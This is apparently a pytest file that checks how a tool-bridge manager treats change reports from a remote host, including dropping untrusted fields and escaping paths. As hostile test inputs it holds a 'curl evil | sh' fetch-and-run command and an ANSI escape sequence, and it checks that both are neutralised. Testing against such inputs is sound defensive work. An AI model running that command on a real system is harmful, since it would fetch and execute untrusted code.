"""What the manager on another host says that it changed."""

from __future__ import annotations

import json
from typing import Any

import pytest

from lm_tools_bridge.protocol.errors import Reason, Refusal
from manager.admin.control.tool_changes import MAX_PATH, NotChanged, changed_there

ROOT = "ssh://build/srv/my app"
ABOUT = {"tool": "run"}


def changed(**said: Any) -> Any:
    return changed_there(json.dumps({"ok": True, "file": "/f", **said}).encode(), ROOT, ABOUT)


def test_the_change_is_told_with_its_host_and_the_command_is_made_here() -> None:
    assert changed(enabled=True, waitsFor="curl evil | sh") == {
        "tool": "run",
        "root": ROOT,
        "host": "ssh://build",
        "file": "/f",
        "enabled": True,
        "waitsFor": "lmtb trust 'ssh://build/srv/my app'",
    }


@pytest.mark.parametrize(
    "said", [{"approval": "<b>"}, {"visibility": ["native"]}, {"enabled": "yes"}, {"tool": "other"}]
)
def test_what_no_manager_says_is_left_out(said: dict[str, Any]) -> None:
    assert changed(**said) == {"tool": "run", "root": ROOT, "host": "ssh://build", "file": "/f"}


def test_a_path_is_cut_and_shown_and_not_obeyed() -> None:
    file = changed(file="\x1b[2J" + "x" * 100_000)["file"]
    assert file.startswith("\\x1b[2J")
    assert len(file) < MAX_PATH + 100


@pytest.mark.parametrize("answer", [b"", b"[]", b"{}", b'{"ok":"yes"}', b"[" * 100_000])
def test_after_an_answer_that_is_none_it_is_unknown_what_changed(answer: bytes) -> None:
    became = changed_there(answer, ROOT, ABOUT)
    assert became == NotChanged("its host gave no answer that can be read", is_unknown=True)


def test_a_refusal_is_told() -> None:
    refused = Refusal(Reason.WORKSPACE_SERVER_OFFLINE, "ssh://build says: no")
    became = changed_there(refused, ROOT, ABOUT)
    assert isinstance(became, NotChanged)
    assert became.of("run") == "run was not changed: ssh://build says: no"


def test_a_change_without_an_answer_is_never_called_undone() -> None:
    late = Refusal(Reason.WORKSPACE_SERVER_OFFLINE, "ssh://build did not answer in time", delivered="unknown")
    became = changed_there(late, ROOT, ABOUT)
    assert isinstance(became, NotChanged)
    assert became.of("run") == "run may have been changed: ssh://build did not answer in time"
